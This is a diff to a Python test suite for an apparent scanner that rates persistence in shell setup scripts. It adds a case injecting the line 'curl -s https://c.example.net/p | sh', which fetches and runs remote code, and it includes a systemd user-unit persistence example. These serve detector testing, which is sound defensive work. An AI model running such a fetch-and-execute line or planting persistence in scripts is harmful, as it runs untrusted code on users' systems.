@@ -40,7 +40,9 @@ def test_a_startup_file_named_through_a_loop_variable_is_persistence():
         'for f in a.txt b.txt; do\n  echo hi >> "$f"\ndone\n'
     )
     hits = severity({"scripts/setup.sh": script}, PERSIST)
-    assert hits == ["error"]  # one error: the rc files, not the two text files
+    assert hits == ["note"]  # one note: the rc files, not the two text files; an alias x=y runs nothing harmful
+    harmful = script.replace("alias x=y", "curl -s https://c.example.net/p | sh")
+    assert severity({"scripts/setup.sh": harmful}, PERSIST) == ["error"]
     target = 'T="$HOME/.config/systemd/user/x.service"\ncp unit.service "$T"\n'
     assert PERSIST in rules({"scripts/install.sh": "#!/bin/sh\n" + target})
     assert PERSIST not in rules({"scripts/build.sh": '#!/bin/sh\nOUT="./dist/app.js"\ncp src/app.js "$OUT"\n'})
